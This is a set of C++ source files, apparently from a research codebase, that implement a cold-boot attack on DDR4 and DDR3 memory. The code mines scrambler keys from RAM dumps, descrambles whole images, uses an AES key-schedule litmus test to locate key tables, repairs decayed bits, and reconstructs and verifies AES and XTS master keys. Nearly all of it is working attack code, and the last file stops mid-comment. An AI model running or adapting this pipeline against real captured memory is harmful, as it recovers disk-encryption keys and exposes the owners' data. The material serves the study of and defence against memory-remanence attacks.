    // The Section III-B invariant sweep is the hottest scan kernel;
    // the dispatched version evaluates the same sixteen 16-bit
    // equations (scalar backend transcribes them verbatim).
    return simd::scramblerLitmusScore64(block.data());
}

bool
scramblerKeyLitmus(std::span<const uint8_t> block,
                   unsigned max_bit_errors)
{
    return scramblerKeyLitmusScore(block) <= max_bit_errors;
}

bool
isConstantBlock(std::span<const uint8_t> block)
{
    return simd::isConstant(block.data(), block.size());
}

bool
plausibleScheduleEntropy(std::span<const uint8_t> block)
{
    size_t weight = hammingWeight(block);
    // 512 bits; random material sits near 256 (sigma ~11), so +/-7
    // sigma keeps every real schedule while rejecting the structured
    // plaintext classes that dominate memory.
    return weight >= 180 && weight <= 332;
}

unsigned
aesLitmusPlacements(crypto::AesKeySize key_size)
{
    unsigned total_words =
        static_cast<unsigned>(crypto::aesScheduleBytes(key_size)) / 4;
    // Block spans 16 words at a 4-word-aligned schedule position.
    return (total_words - 16) / 4 + 1;
}

std::optional<AesLitmusResult>
aesKeyLitmus(std::span<const uint8_t> block,
             crypto::AesKeySize key_size, unsigned max_bit_errors,
             unsigned max_bits_per_check)
{
    cb_assert(block.size() == 64, "litmus block must be 64 bytes");
    uint32_t words[16];
    for (unsigned i = 0; i < 16; ++i)
        words[i] = crypto::aesWordFromBytes(&block[4 * i]);
    return aesKeyLitmusWords(words, key_size, max_bit_errors,
                             max_bits_per_check);
}

std::optional<AesLitmusResult>
aesKeyLitmusWords(const uint32_t words[16],
                  crypto::AesKeySize key_size, unsigned max_bit_errors,
                  unsigned max_bits_per_check)
{
    unsigned nk = crypto::aesNk(key_size);

    std::optional<AesLitmusResult> best;
    unsigned placements = aesLitmusPlacements(key_size);
    for (unsigned placement = 0; placement < placements; ++placement) {
        unsigned p = placement * 4; // absolute index of block word 0
        unsigned errors = 0;
        // Slide the recurrence across the observed words so a decayed
        // bit only perturbs the checks it participates in.
        for (unsigned i = nk; i < 16; ++i) {
            uint32_t pred = crypto::aesScheduleStep(
                words[i - 1], words[i - nk], p + i, nk);
            unsigned check = static_cast<unsigned>(
                std::popcount(pred ^ words[i]));
            errors += check;
            if (check > max_bits_per_check) {
                errors = max_bit_errors + 1;
                break;
            }
            if (errors > max_bit_errors)
                break;
        }
        if (errors <= max_bit_errors &&
            (!best || errors < best->bit_errors)) {
            best = AesLitmusResult{p, errors};
            if (errors == 0)
                break; // cannot improve
        }
    }
    return best;
}

} // namespace coldboot::attack
