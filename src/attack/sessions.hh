/**
 * @file
 * Resumable, cancellable analysis sessions - the attack pipeline
 * recast as explicit stage state machines.
 *
 * The one-shot entry points (runColdBootAttack and friends) run a
 * whole analysis inside one call frame, which is exactly wrong for a
 * long-running service: a job scheduler needs to start work, observe
 * it, pause between stages, cancel it mid-scan and report partial
 * progress - without perturbing the determinism contract. A session
 * object owns the analysis state across stage boundaries instead of
 * keeping it on a stack:
 *
 *   AttackSession      Mine -> Search (one step per AES variant) ->
 *                      Pair -> Done
 *   MineSession        Mine -> Done
 *   DescrambleSession  Mine -> Descramble (stream + rewrite) -> Done
 *
 * step() advances exactly one stage; runToCompletion() loops it. The
 * stage sequence and every intermediate result are identical to the
 * old monolithic functions - runColdBootAttack() is now a thin
 * wrapper over AttackSession - so session-driven results remain
 * byte-identical to the one-shot CLI at any pool width (DESIGN.md
 * §9, extended to the service in §14).
 *
 * Cancellation is cooperative: each session owns an
 * exec::CancelToken wired into the scan parameters; requestCancel()
 * makes the next per-chunk checkpoint throw exec::CancelledError,
 * which step() converts into the Cancelled terminal state (and
 * rethrows, so the caller observes it too). Other exceptions mark
 * the session Failed with the message preserved.
 */

#ifndef COLDBOOT_ATTACK_SESSIONS_HH
#define COLDBOOT_ATTACK_SESSIONS_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "attack/attack_pipeline.hh"
#include "exec/cancel.hh"
#include "exec/dump_io.hh"

namespace coldboot::obs
{
class ProgressJob;
} // namespace coldboot::obs

namespace coldboot::attack
{

/** Stages of the session state machines (superset over all kinds). */
enum class SessionStage
{
    Mine,
    Search,
    Pair,
    Descramble,
    Done,
    Cancelled,
    Failed,
};

/** "mine", "search", ... - stable names for status reporting. */
const char *sessionStageName(SessionStage stage);

/** Whether @p stage is terminal (Done / Cancelled / Failed). */
bool sessionStageTerminal(SessionStage stage);

/** Point-in-time view of a session for status/checkpoint reporting. */
struct SessionCheckpoint
{
    SessionStage stage = SessionStage::Mine;
    /** Completed search passes (AttackSession: per AES variant). */
    size_t search_passes_done = 0;
    size_t mined_keys = 0;
    size_t recovered_keys = 0;
    size_t xts_pairs = 0;
    /** Wall-clock seconds spent inside step() so far. */
    double elapsed_seconds = 0.0;
    /** Failure message (Failed state only). */
    std::string error;
};

/**
 * Base session: stage bookkeeping, cancellation, umbrella progress
 * job and per-step spans. Subclasses implement runStage() to execute
 * the current stage and advance to the next.
 */
class AnalysisSession
{
  public:
    virtual ~AnalysisSession() = default;

    AnalysisSession(const AnalysisSession &) = delete;
    AnalysisSession &operator=(const AnalysisSession &) = delete;

    SessionStage stage() const { return stage_; }
    bool finished() const { return sessionStageTerminal(stage_); }

    /**
     * Execute the current stage and advance. Returns true while more
     * stages remain, false once terminal. A raised cancel token
     * moves the session to Cancelled and rethrows
     * exec::CancelledError; any other exception moves it to Failed
     * and rethrows. Calling step() on a terminal session is a no-op
     * returning false.
     */
    bool step();

    /** step() until terminal (exceptions propagate as from step()). */
    void runToCompletion();

    /** The session's cancel flag (shared with its scan parameters). */
    exec::CancelToken &cancelToken() { return cancel_; }
    const exec::CancelToken &cancelToken() const { return cancel_; }

    /**
     * The umbrella progress job (percent / ETA for the whole
     * session); null until the first step() ran.
     */
    std::shared_ptr<obs::ProgressJob> progressJob() const
    {
        return progress_;
    }

    virtual SessionCheckpoint checkpoint() const;

    /** Failure message once Failed ("" otherwise). */
    const std::string &error() const { return error_; }

    /** Wall-clock seconds spent inside step() so far. */
    double elapsedSeconds() const { return elapsed_seconds_; }

  protected:
    /**
     * @param span_label Name of the per-step trace span (and the
     *                   scalar/progress namespace).
     * @param progress_label Name of the umbrella progress job.
     */
    AnalysisSession(std::string span_label,
                    std::string progress_label);

    /** Execute stage_ and advance it; called with the span open. */
    virtual void runStage() = 0;

    /** Total units for the umbrella progress job (first step). */
    virtual uint64_t progressTotalUnits() const = 0;

    /** Hook run once when the session reaches Done (stats export). */
    virtual void finalize() {}

    SessionStage stage_ = SessionStage::Mine;
    exec::CancelToken cancel_;
    std::shared_ptr<obs::ProgressJob> progress_;
    std::string span_label_;
    std::string progress_label_;
    std::string error_;
    double elapsed_seconds_ = 0.0;
};

/**
 * The full DDR4 cold-boot attack as a session: mine scrambler keys,
 * search for AES key tables (one step per requested variant), pair
 * XTS masters. Equivalent to runColdBootAttack() - which now runs
 * through this object - with identical stats, progress and results.
 */
class AttackSession final : public AnalysisSession
{
  public:
    /**
     * @param dump   Must outlive the session.
     * @param params Pipeline tuning; the session wires its own
     *               cancel token into the miner/search params.
     * @param progress_label Umbrella progress job name (the service
     *               passes "serve.job.<id>"; the CLI default keeps
     *               the historical "attack.pipeline").
     */
    explicit AttackSession(const exec::DumpSource &dump,
                           PipelineParams params = {},
                           std::string progress_label =
                               "attack.pipeline");

    /** Valid in any state; complete once Done. */
    const PipelineReport &report() const { return report_; }

    /** Move the report out (the session must be terminal). */
    PipelineReport takeReport();

    SessionCheckpoint checkpoint() const override;

  protected:
    void runStage() override;
    uint64_t progressTotalUnits() const override;
    void finalize() override;

  private:
    void stageMine();
    void stageSearch();
    void stagePair();

    const exec::DumpSource &dump_;
    PipelineParams params_;
    PipelineReport report_;
    /** Next key size to search (Search runs one per step). */
    size_t next_key_size_ = 0;
    uint64_t mine_bytes_ = 0;
};

/** Scrambler-key mining as a single-stage session. */
class MineSession final : public AnalysisSession
{
  public:
    explicit MineSession(const exec::DumpSource &dump,
                         MinerParams params = {},
                         std::string progress_label =
                             "attack.miner.session");

    const MinerStats &stats() const { return stats_; }
    const std::vector<MinedKey> &minedKeys() const { return mined_; }

    SessionCheckpoint checkpoint() const override;

  protected:
    void runStage() override;
    uint64_t progressTotalUnits() const override;

  private:
    const exec::DumpSource &dump_;
    MinerParams params_;
    MinerStats stats_;
    std::vector<MinedKey> mined_;
};

/** Outcome of a DescrambleSession. */
struct DescrambleResult
{
    /** Keys mined in stage 1 (the best one descrambles). */
    size_t mined_keys = 0;
    /** Occurrence count of the key used. */
    size_t key_occurrences = 0;
    /** 64-byte lines rewritten. */
    uint64_t lines = 0;
    /** SHA-256 of the descrambled image, lowercase hex. */
    std::string sha256_hex;
    /** Where the descrambled image was written. */
    std::string out_path;
};

/**
 * Whole-dump descramble as a session: mine scrambler keys, then
 * stream the dump XOR the best-mined key into @p out_path (the
 * "reboot-XOR" pass that turns a scrambled capture into a plaintext
 * image for baseline tooling). The XOR runs chunked on the pool; the
 * output file and its digest are byte-identical at any worker count
 * because the write-out is an ordered reduction.
 */
class DescrambleSession final : public AnalysisSession
{
  public:
    DescrambleSession(const exec::DumpSource &dump,
                      std::string out_path, MinerParams params = {},
                      std::string progress_label =
                          "attack.descramble");

    const DescrambleResult &result() const { return result_; }

    SessionCheckpoint checkpoint() const override;

  protected:
    void runStage() override;
    uint64_t progressTotalUnits() const override;

  private:
    void stageMine();
    void stageDescramble();

    const exec::DumpSource &dump_;
    MinerParams params_;
    std::string out_path_;
    std::vector<MinedKey> mined_;
    MinerStats mine_stats_;
    DescrambleResult result_;
};

//
// Deterministic result rendering - shared verbatim by coldboot-tool
// and the analysis service, so "results byte-identical to the
// one-shot CLI" is true by construction.
//

/**
 * "mined N candidate keys; recovered M AES table(s); K XTS
 * pair(s);" - no trailing newline (the CLI appends its
 * timing/backend tail on the same line).
 */
std::string renderAttackSummary(const PipelineReport &report);

/** The recovered XTS key lines, exactly as `coldboot-tool attack`
 *  prints them ("" when nothing was recovered). */
std::string renderAttackKeys(const PipelineReport &report);

/** Summary line + key lines: the service's attack result payload. */
std::string renderAttackResult(const PipelineReport &report);

/** Mining result exactly as `coldboot-tool mine` prints it. */
std::string renderMineResult(const MinerStats &stats,
                             const std::vector<MinedKey> &mined,
                             size_t top_n);

/** Descramble result exactly as `coldboot-tool descramble` prints
 *  it (minus the timing tail). */
std::string renderDescrambleResult(const DescrambleResult &result);

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_SESSIONS_HH
