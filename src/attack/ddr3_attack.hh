/**
 * @file
 * The baseline DDR3 cold boot attack (Bauer et al. 2016, recapped in
 * Section II-C) that the paper's DDR4 attack supersedes.
 *
 * DDR3 scramblers use only 16 keys per channel, and the per-address
 * key component is seed-independent. Re-reading a scrambled DRAM
 * through a *different* seed's descrambler therefore cancels the
 * per-address part: the whole dump appears XOR-ed with one universal
 * 64-byte key, recoverable by simple frequency analysis (zero blocks
 * dominate memory). Against DDR4 these techniques fail - which is
 * demonstrated by tests and the E1 bench.
 */

#ifndef COLDBOOT_ATTACK_DDR3_ATTACK_HH
#define COLDBOOT_ATTACK_DDR3_ATTACK_HH

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "platform/memory_image.hh"

namespace coldboot::attack
{

/**
 * Most frequent 64-byte line value in an image, refined by a
 * per-bit majority vote over all lines within @p refine_distance of
 * the exact-count winner (decay tolerance).
 *
 * @param image            Image to analyze.
 * @param stride_lines     Consider every stride_lines-th line.
 * @param offset_lines     Starting line.
 * @param refine_distance  Hamming radius for the refinement vote.
 */
std::array<uint8_t, 64> mostFrequentLine(
    const platform::MemoryImage &image, size_t stride_lines = 1,
    size_t offset_lines = 0, unsigned refine_distance = 80);

/**
 * Recover the DDR3 universal key from a double-scrambled dump (a
 * victim image re-read through a differently-seeded descrambler).
 * Zero-filled blocks make the universal key the dominant line value.
 */
std::array<uint8_t, 64> recoverDdr3UniversalKey(
    const platform::MemoryImage &dump);

/**
 * Recover the 16 per-index DDR3 scrambler keys from a raw scrambled
 * dump (scrambler-off capture). Key index i covers lines whose line
 * number is congruent to i mod 16 (address bits [9:6]).
 */
std::vector<std::array<uint8_t, 64>> recoverDdr3Keys(
    const platform::MemoryImage &dump);

/**
 * Descramble an entire image with one universal key, in place.
 */
void descrambleWithUniversalKey(platform::MemoryImage &image,
                                const std::array<uint8_t, 64> &key);

/**
 * Descramble a raw DDR3 dump with the 16 recovered keys, in place.
 */
void descrambleDdr3(platform::MemoryImage &image,
                    const std::vector<std::array<uint8_t, 64>> &keys);

} // namespace coldboot::attack

#endif // COLDBOOT_ATTACK_DDR3_ATTACK_HH
