#include "attack/aes_search.hh"

#include <algorithm>
#include <chrono>
#include <cstring>
#include <memory>
#include <numeric>
#include <optional>
#include <set>

#include "common/bits.hh"
#include "common/logging.hh"
#include "attack/litmus.hh"
#include "simd/simd.hh"
#include "exec/thread_pool.hh"
#include "obs/progress.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::attack
{

namespace
{

using crypto::aesExpandKey;
using crypto::aesNk;
using crypto::aesScheduleBackward;
using crypto::aesScheduleBytes;
using crypto::aesScheduleStep;
using crypto::aesWordFromBytes;

/**
 * Internal-consistency error (bits) of a 16-word block interpreted
 * as schedule words starting at absolute word index @p p (which may
 * be negative for blocks straddling the table head). Only recurrence
 * checks fully inside both the block and the schedule are counted;
 * @p checks reports how many were possible.
 */
unsigned
blockConsistencyErrors(const uint32_t words[16], int64_t p,
                       unsigned nk, unsigned total_words,
                       unsigned &checks)
{
    unsigned errors = 0;
    checks = 0;
    for (unsigned i = nk; i < 16; ++i) {
        int64_t a = p + i;
        if (a < static_cast<int64_t>(nk) ||
            a >= static_cast<int64_t>(total_words))
            continue;
        uint32_t pred = aesScheduleStep(
            words[i - 1], words[i - nk], static_cast<unsigned>(a), nk);
        errors += static_cast<unsigned>(
            std::popcount(pred ^ words[i]));
        ++checks;
    }
    return errors;
}

/** Descramble a 64-byte raw block with a candidate key. */
void
descramble(std::span<const uint8_t> raw,
           const std::array<uint8_t, 64> &key, uint8_t out[64])
{
    simd::xorInto(out, raw.data(), key.data(), 64);
}

/**
 * Pick the candidate key making a full in-table block most
 * self-consistent. Returns the error count of the winner and writes
 * its descrambled words; SIZE_MAX key index if no candidate checks.
 */
size_t
bestKeyForFullBlock(std::span<const uint8_t> raw,
                    const std::vector<MinedKey> &keys, unsigned p,
                    unsigned nk, unsigned total_words,
                    uint32_t out_words[16], unsigned &best_errors)
{
    size_t best = SIZE_MAX;
    best_errors = ~0u;
    uint8_t plain[64];
    uint32_t words[16];
    for (size_t k = 0; k < keys.size(); ++k) {
        descramble(raw, keys[k].key, plain);
        for (unsigned i = 0; i < 16; ++i)
            words[i] = aesWordFromBytes(&plain[4 * i]);
        unsigned checks = 0;
        unsigned errors = blockConsistencyErrors(
            words, static_cast<int64_t>(p), nk, total_words, checks);
        if (checks == 0)
            continue;
        if (errors < best_errors) {
            best_errors = errors;
            best = k;
            std::memcpy(out_words, words, sizeof(words));
            if (errors == 0)
                break;
        }
    }
    return best;
}

} // anonymous namespace

unsigned
repairAesScheduleWords(std::span<uint32_t> words, unsigned first_word,
                       unsigned nk, unsigned iterations)
{
    // Phase 1: Gallager-style bit flipping. Every schedule step
    //   w[a] = w[a-nk] ^ f(w[a-1])
    // is a bitwise parity relation between w[a], w[a-nk] and
    // g = f(w[a-1]) (g is recomputed from the current estimate of
    // w[a-1] each sweep). A bit of word i therefore participates in
    // up to three checks: as the step target, as the back operand of
    // the step at a+nk, and - when the following step applies no
    // SubWord - inside f(w[a]) for the step at a+1 (identity f only,
    // since S-box steps do not preserve bit positions). A bit whose
    // checks are violated by majority is flipped. At the few-percent
    // decay rates of a cooled transfer this converges in a handful of
    // sweeps; a final word-level forward/backward agreement pass then
    // cleans up what the bit-level pass cannot see.
    size_t n = words.size();
    unsigned total_fixed = 0;

    auto is_linear_step = [nk](unsigned a) {
        if (a % nk == 0)
            return false;
        if (nk > 6 && a % nk == 4)
            return false;
        return true;
    };

    for (unsigned sweep = 0; sweep < iterations; ++sweep) {
        // f applied to each word by the step that consumes it as
        // "prev" (the step at index a+1).
        std::vector<uint32_t> f_of(n);
        for (size_t i = 0; i < n; ++i)
            f_of[i] = aesScheduleStep(
                words[i], 0,
                first_word + static_cast<unsigned>(i) + 1, nk);

        unsigned fixed_bits = 0;
        std::vector<uint32_t> flips(n, 0);
        for (size_t i = 0; i < n; ++i) {
            unsigned a = first_word + static_cast<unsigned>(i);
            uint32_t viol[3];
            int nchecks = 0;
            if (i >= nk && a >= nk) {
                // Target of its own step.
                viol[nchecks++] =
                    words[i] ^ words[i - nk] ^ f_of[i - 1];
            }
            if (i + nk < n) {
                // Back operand of the step at a+nk.
                viol[nchecks++] =
                    words[i + nk] ^ words[i] ^ f_of[i + nk - 1];
            }
            if (i + 1 < n && i + 1 >= nk && a + 1 >= nk &&
                is_linear_step(a + 1)) {
                // Prev operand of an identity-f step.
                viol[nchecks++] =
                    words[i + 1] ^ words[i + 1 - nk] ^ words[i];
            }
            if (nchecks < 2)
                continue;
            for (unsigned j = 0; j < 32; ++j) {
                int violated = 0;
                for (int c = 0; c < nchecks; ++c)
                    violated += (viol[c] >> j) & 1;
                if (violated >= 2)
                    flips[i] |= 1u << j;
            }
        }
        for (size_t i = 0; i < n; ++i) {
            if (flips[i]) {
                words[i] ^= flips[i];
                fixed_bits += static_cast<unsigned>(
                    std::popcount(flips[i]));
            }
        }
        total_fixed += fixed_bits;
        if (fixed_bits == 0)
            break;
    }

    // Phase 2: word-level forward/backward agreement for words
    // adjacent to the nonlinear (SubWord) steps.
    for (unsigned sweep = 0; sweep < iterations; ++sweep) {
        unsigned fixed = 0;
        for (size_t i = 0; i < n; ++i) {
            unsigned a = first_word + static_cast<unsigned>(i);
            std::optional<uint32_t> fwd;
            if (i >= nk && a >= nk) {
                fwd = aesScheduleStep(words[i - 1], words[i - nk], a,
                                      nk);
            }
            std::optional<uint32_t> bwd;
            if (i + nk < n) {
                uint32_t f_prev =
                    aesScheduleStep(words[i + nk - 1], 0, a + nk, nk);
                bwd = words[i + nk] ^ f_prev;
            }
            if (fwd && bwd && *fwd == *bwd && words[i] != *fwd) {
                words[i] = *fwd;
                ++fixed;
            }
        }
        total_fixed += fixed;
        if (fixed == 0)
            break;
    }
    return total_fixed;
}

namespace
{

/**
 * Attempt a full reconstruction of the schedule whose word 0 lies at
 * dump byte offset @p table_off, returning the recovered key if it
 * verifies.
 */
std::optional<RecoveredAesKey>
reconstructAt(const exec::DumpSource &dump,
              const std::vector<MinedKey> &keys, uint64_t table_off,
              const SearchParams &params, SearchStats &stats,
              exec::ChunkBuffer &buf)
{
    unsigned nk = aesNk(params.key_size);
    unsigned sched_bytes =
        static_cast<unsigned>(aesScheduleBytes(params.key_size));
    unsigned total_words = sched_bytes / 4;

    if (table_off % 4 != 0 ||
        table_off + sched_bytes > dump.size())
        return std::nullopt;

    ++stats.reconstructions_tried;

    // Gather the fully-in-table 64-byte blocks.
    uint64_t first_full = (table_off + 63) & ~63ULL;
    std::vector<uint32_t> observed;
    int64_t obs_first_word = -1;
    bool assembly_ok = true;
    for (uint64_t b = first_full; b + 64 <= table_off + sched_bytes;
         b += 64) {
        unsigned p = static_cast<unsigned>((b - table_off) / 4);
        uint32_t words[16];
        unsigned errors = 0;
        size_t k = bestKeyForFullBlock(dump.chunk(b, 64, buf), keys,
                                       p, nk, total_words, words,
                                       errors);
        stats.descramble_attempts += keys.size();
        if (k == SIZE_MAX || errors > 4 * params.litmus_max_bit_errors) {
            assembly_ok = false;
            break;
        }
        if (obs_first_word < 0)
            obs_first_word = p;
        observed.insert(observed.end(), words, words + 16);
    }
    if (!assembly_ok || observed.size() < nk + 1)
        return std::nullopt;

    repairAesScheduleWords(observed,
                           static_cast<unsigned>(obs_first_word), nk,
                           params.repair_iterations);

    // Any clean Nk-window determines the whole schedule (forward and
    // backward). Decay may have corrupted any given window, so seed a
    // full reconstruction from every window position and keep the one
    // that agrees best with the observation.
    std::vector<uint8_t> master;
    unsigned best_dist = ~0u;
    for (size_t s = 0; s + nk <= observed.size(); ++s) {
        unsigned abs_s = static_cast<unsigned>(obs_first_word + s);
        std::span<const uint32_t> window(&observed[s], nk);
        std::vector<uint32_t> full(total_words);
        auto head = aesScheduleBackward(window, abs_s, abs_s, nk);
        std::copy(head.begin(), head.end(), full.begin());
        std::copy(window.begin(), window.end(), full.begin() + abs_s);
        auto tail = crypto::aesScheduleContinue(
            window, abs_s + nk, total_words - abs_s - nk, nk);
        std::copy(tail.begin(), tail.end(),
                  full.begin() + abs_s + nk);

        unsigned dist = 0;
        for (size_t i = 0; i < observed.size(); ++i) {
            dist += static_cast<unsigned>(std::popcount(
                full[obs_first_word + i] ^ observed[i]));
            if (dist >= best_dist)
                break;
        }
        if (dist < best_dist) {
            best_dist = dist;
            master.resize(4 * nk);
            for (unsigned i = 0; i < nk; ++i)
                crypto::aesBytesFromWord(full[i], &master[4 * i]);
            if (dist == 0)
                break;
        }
    }
    if (master.empty())
        return std::nullopt;

    // Verify the reconstruction against every overlapping block,
    // including the partial boundary blocks.
    auto expanded = aesExpandKey(master);
    uint64_t span_begin = table_off & ~63ULL;
    size_t verified = 0;
    unsigned total_errors = 0;
    uint8_t plain[64];
    for (uint64_t b = span_begin; b < table_off + sched_bytes;
         b += 64) {
        // Overlap of this block with the table.
        uint64_t lo = std::max(b, table_off);
        uint64_t hi = std::min(b + 64,
                               table_off + sched_bytes);
        unsigned best_dist = ~0u;
        auto raw = dump.chunk(b, 64, buf);
        for (const auto &mk : keys) {
            descramble(raw, mk.key, plain);
            // Subrange compare of the overlap (at most 64 bytes, so
            // the old "> 8 * 64 bits" early break could never fire).
            unsigned dist = static_cast<unsigned>(
                simd::hammingDistance(plain + (lo - b),
                                      expanded.data() +
                                          (lo - table_off),
                                      hi - lo));
            best_dist = std::min(best_dist, dist);
            if (best_dist == 0)
                break;
        }
        stats.descramble_attempts += keys.size();
        total_errors += best_dist;
        if (best_dist <= params.verify_block_max_bit_errors)
            ++verified;
    }

    if (verified < params.min_verified_blocks ||
        total_errors > params.max_total_bit_errors)
        return std::nullopt;

    ++stats.reconstructions_verified;
    RecoveredAesKey out;
    out.master = std::move(master);
    out.key_size = params.key_size;
    out.table_offset = table_off;
    out.verified_blocks = verified;
    out.total_bit_errors = total_errors;
    return out;
}

} // anonymous namespace

std::vector<RecoveredAesKey>
searchAesKeyTables(const exec::DumpSource &dump,
                   const std::vector<MinedKey> &candidate_keys,
                   const SearchParams &params, SearchStats *stats)
{
    auto t0 = std::chrono::steady_clock::now();
    SearchStats local;

    uint64_t begin = params.scan_start & ~63ULL;
    uint64_t end = params.scan_bytes == 0
        ? dump.size()
        : std::min<uint64_t>(dump.size(),
                             params.scan_start + params.scan_bytes);

    std::vector<RecoveredAesKey> results;
    std::set<uint64_t> tried_offsets;
    std::set<std::vector<uint8_t>> seen_masters;

    // Hot path: precompute every candidate key as packed schedule
    // words; per block, load the raw words once and descramble with
    // word XORs (the byte order cancels under XOR).
    std::vector<std::array<uint32_t, 16>> key_words(
        candidate_keys.size());
    for (size_t k = 0; k < candidate_keys.size(); ++k)
        for (unsigned i = 0; i < 16; ++i)
            key_words[k][i] =
                aesWordFromBytes(&candidate_keys[k].key[4 * i]);

    // Phase 1 - scan. The scan is embarrassingly parallel (the paper
    // notes the search "is fully parallelizable"); it runs chunked
    // on the work-stealing pool and the per-chunk hit lists are
    // concatenated in ascending dump order, so the hit sequence -
    // and everything derived from it - is byte-identical to a serial
    // scan for any worker count.
    struct Hit
    {
        uint64_t off;
        unsigned start_word;
    };
    struct ChunkScan
    {
        std::vector<Hit> hits;
        uint64_t blocks_scanned = 0;
        uint64_t attempts = 0;
    };
    std::vector<Hit> all_hits;

    // params.threads: 0 = the shared global pool, 1 = serial
    // in-line, N > 1 = a dedicated pool of N workers.
    std::unique_ptr<exec::ThreadPool> own_pool;
    if (params.threads > 1)
        own_pool = std::make_unique<exec::ThreadPool>(params.threads);
    bool sequential = params.threads == 1;
    constexpr uint64_t kScanGrain = 1ull << 20;

    // Progress covers the phase-1 scan (the dominant cost; phase-2
    // reconstruction touches only the handful of litmus hits).
    auto progress = obs::ProgressTracker::global().startJob(
        "attack.search", end > begin ? end - begin : 0);
    {
        obs::ScopedSpan span("search.scan");
        exec::parallelMapReduceChunks<ChunkScan>(
            begin, end, kScanGrain,
            [&](const exec::ChunkRange &c) {
                exec::checkpointIfCancellable(params.cancel);
                thread_local exec::ChunkBuffer buf;
                dump.prefetch(c.begin, c.end - c.begin);
                auto bytes =
                    dump.chunk(c.begin, c.end - c.begin, buf);
                ChunkScan out;
                for (uint64_t off = 0; off + 64 <= bytes.size();
                     off += 64) {
                    ++out.blocks_scanned;
                    auto raw = bytes.subspan(off, 64);
                    if (isConstantBlock(raw))
                        continue;
                    uint32_t raw_words[16];
                    for (unsigned i = 0; i < 16; ++i)
                        raw_words[i] = aesWordFromBytes(&raw[4 * i]);
                    for (size_t ki = 0; ki < candidate_keys.size();
                         ++ki) {
                        ++out.attempts;
                        // Entropy guard (plausibleScheduleEntropy):
                        // rejects zero blocks, padding and text. The
                        // descrambled weight is popcount(raw ^ key) -
                        // byte order cancels under XOR - so the
                        // fused kernel screens candidates before any
                        // plain words are materialized.
                        unsigned weight = static_cast<unsigned>(
                            simd::hammingDistance(
                                raw.data(),
                                candidate_keys[ki].key.data(), 64));
                        if (weight < 180 || weight > 332)
                            continue;
                        uint32_t plain_words[16];
                        for (unsigned i = 0; i < 16; ++i)
                            plain_words[i] =
                                raw_words[i] ^ key_words[ki][i];
                        auto hit = aesKeyLitmusWords(
                            plain_words, params.key_size,
                            params.litmus_max_bit_errors,
                            params.litmus_max_bits_per_check);
                        if (hit)
                            out.hits.push_back(
                                {c.begin + off, hit->start_word});
                    }
                }
                return out;
            },
            [&](ChunkScan &&s, const exec::ChunkRange &c) {
                local.blocks_scanned += s.blocks_scanned;
                local.descramble_attempts += s.attempts;
                local.litmus_hits += s.hits.size();
                all_hits.insert(all_hits.end(), s.hits.begin(),
                                s.hits.end());
                progress->advance(c.end - c.begin);
            },
            own_pool.get(), sequential);
    }
    progress->finish();

    // Phase 2 - reconstruct (serial; candidate offsets are few).
    // Round constants differ by only a bit or two, so the litmus
    // pins a placement only up to congruence modulo lcm(4, Nk) words
    // (all SubWord positions match within a class); every congruent
    // placement of every hit is tried.
    obs::ScopedSpan reconstruct_span("search.reconstruct");
    unsigned nk = crypto::aesNk(params.key_size);
    unsigned modulus = std::lcm(4u, nk);
    unsigned max_p = (aesLitmusPlacements(params.key_size) - 1) * 4;
    exec::ChunkBuffer reconstruct_buf;
    for (const auto &hit : all_hits) {
        exec::checkpointIfCancellable(params.cancel);
        for (unsigned s = hit.start_word % modulus; s <= max_p;
             s += modulus) {
            if (params.max_reconstructions != 0 &&
                local.reconstructions_tried >=
                    params.max_reconstructions)
                break;
            int64_t table_off =
                static_cast<int64_t>(hit.off) -
                4 * static_cast<int64_t>(s);
            if (table_off < 0)
                continue;
            if (!tried_offsets
                     .insert(static_cast<uint64_t>(table_off))
                     .second)
                continue;
            auto rec = reconstructAt(
                dump, candidate_keys,
                static_cast<uint64_t>(table_off), params, local,
                reconstruct_buf);
            if (rec && seen_masters.insert(rec->master).second)
                results.push_back(std::move(*rec));
        }
    }

    std::sort(results.begin(), results.end(),
              [](const RecoveredAesKey &a, const RecoveredAesKey &b) {
                  if (a.verified_blocks != b.verified_blocks)
                      return a.verified_blocks > b.verified_blocks;
                  return a.total_bit_errors < b.total_bit_errors;
              });

    // Two genuine schedules can never overlap in memory, but a
    // congruent-placement misreconstruction of a real table can
    // scrape past verification (it disagrees with the truth only by
    // accumulated round-constant deltas). Greedily keep the
    // best-verified reconstruction of any overlapping group.
    uint64_t sbytes = aesScheduleBytes(params.key_size);
    std::vector<RecoveredAesKey> kept;
    for (auto &r : results) {
        bool overlaps = false;
        for (const auto &k : kept) {
            uint64_t lo = std::max(r.table_offset, k.table_offset);
            uint64_t hi = std::min(r.table_offset + sbytes,
                                   k.table_offset + sbytes);
            overlaps = overlaps || lo < hi;
        }
        if (!overlaps)
            kept.push_back(std::move(r));
    }
    results = std::move(kept);

    local.seconds = std::chrono::duration<double>(
                        std::chrono::steady_clock::now() - t0)
                        .count();

    // Mirror this call into the registry (the system of record for
    // cross-run trajectories); the SearchStats out-parameter stays a
    // per-call view.
    auto &registry = obs::StatRegistry::global();
    registry.counter("attack.search.blocks_scanned",
                     "64-byte blocks examined by the key-table scan")
        .add(local.blocks_scanned);
    registry.counter("attack.search.descramble_attempts",
                     "(block, candidate-key) descramble attempts")
        .add(local.descramble_attempts);
    registry.counter("attack.search.litmus_hits",
                     "blocks passing the AES key-schedule litmus")
        .add(local.litmus_hits);
    registry.counter("attack.search.reconstructions_tried",
                     "schedule reconstructions attempted")
        .add(local.reconstructions_tried);
    registry.counter("attack.search.reconstructions_verified",
                     "schedule reconstructions that verified")
        .add(local.reconstructions_verified);
    registry.distribution("attack.search.seconds",
                          "wall-clock seconds per search run")
        .sample(local.seconds);

    if (stats)
        *stats = local;
    return results;
}

std::vector<RecoveredAesKey>
searchAesKeyTables(const platform::MemoryImage &dump,
                   const std::vector<MinedKey> &candidate_keys,
                   const SearchParams &params, SearchStats *stats)
{
    exec::MemoryDumpSource source(dump.bytes());
    return searchAesKeyTables(source, candidate_keys, params, stats);
}

} // namespace coldboot::attack
