/**
 * @file
 * AES key-table search over a scrambled dump (attack steps 2-4).
 *
 * For every 64-byte block of the dump and every mined candidate
 * scrambler key, the block is descrambled and fed to the AES key
 * litmus test. A hit pins the block to an absolute position inside an
 * expanded key schedule; the recurrence is then run forward and
 * backward to reconstruct the whole schedule - including words
 * w[0..Nk), the raw master key - and the reconstruction is verified
